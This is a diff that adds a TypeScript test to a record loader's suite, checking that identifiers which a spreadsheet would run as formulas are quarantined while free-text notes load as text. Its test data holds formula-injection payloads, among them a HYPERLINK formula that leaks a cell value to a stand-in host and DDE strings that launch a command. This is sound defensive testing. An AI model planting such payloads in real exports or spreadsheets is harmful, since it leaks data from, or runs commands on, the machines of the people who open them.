@@ -123,6 +123,50 @@ describe("record loader", () => {
   });
 });
 
+describe("identifiers a spreadsheet would run as a formula (API records)", () => {
+  const dir = tempDir();
+  const reason =
+    "widget_id: starts with =, +, -, @, a tab or a carriage return, which spreadsheets run as a formula; no identifier needs them: correct it at the source";
+
+  it("a record whose id starts with =, +, -, @, tab or CR is quarantined with the reason; free text starting so loads as text", async () => {
+    const ids = ['=HYPERLINK("http://x?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3+cmd|' /C calc'!A0"];
+    const hostileIds = [...ids, "-17", "\t=1+1", "\r=1+1"].map((id) => ({ ...good[0], widget_id: id }));
+    const hostileNotes = ids.map((note, i) => ({ ...good[0], widget_id: `n${i}`, note }));
+    const harmless = [
+      { ...good[0], widget_id: "w-1" },
+      { ...good[0], widget_id: "'=quoted" },
+      { ...good[0], widget_id: "渠道-1" },
+    ];
+    const path = join(dir, "formula.duckdb");
+    await withDatabase(path, async (c) => {
+      await ensureMetaSchema(c);
+      const records = [...hostileIds, ...hostileNotes, ...harmless];
+      const result = await loadRecordStream(c, "run-1", streamOf(records, records.length));
+      expect(result).toMatchObject({ read: records.length, loaded: ids.length + 3, rejected: hostileIds.length });
+      const quarantined = await queryRows<{ reason: string; payload: string }>(
+        c,
+        "select reason, payload from meta.quarantine order by location",
+      );
+      expect(quarantined.map((q) => q.reason)).toEqual(hostileIds.map(() => reason));
+      expect(quarantined.map((q) => JSON.parse(q.payload).widget_id).sort()).toEqual(
+        hostileIds.map((r) => r.widget_id).sort(),
+      );
+      const loaded = await queryRows<{ widget_id: string; note: string | null }>(
+        c,
+        "select widget_id, note from shop.widgets order by widget_id",
+      );
+      expect(loaded).toEqual(
+        expect.arrayContaining([
+          ...ids.map((note, i) => ({ widget_id: `n${i}`, note })),
+          { widget_id: "w-1", note: null },
+          { widget_id: "'=quoted", note: null },
+          { widget_id: "渠道-1", note: null },
+        ]),
+      );
+    });
+  });
+});
+
 function streamWithDeletes(
   mode: "full" | "incremental",
   records: Array<{ record: unknown; deleted?: boolean }>,
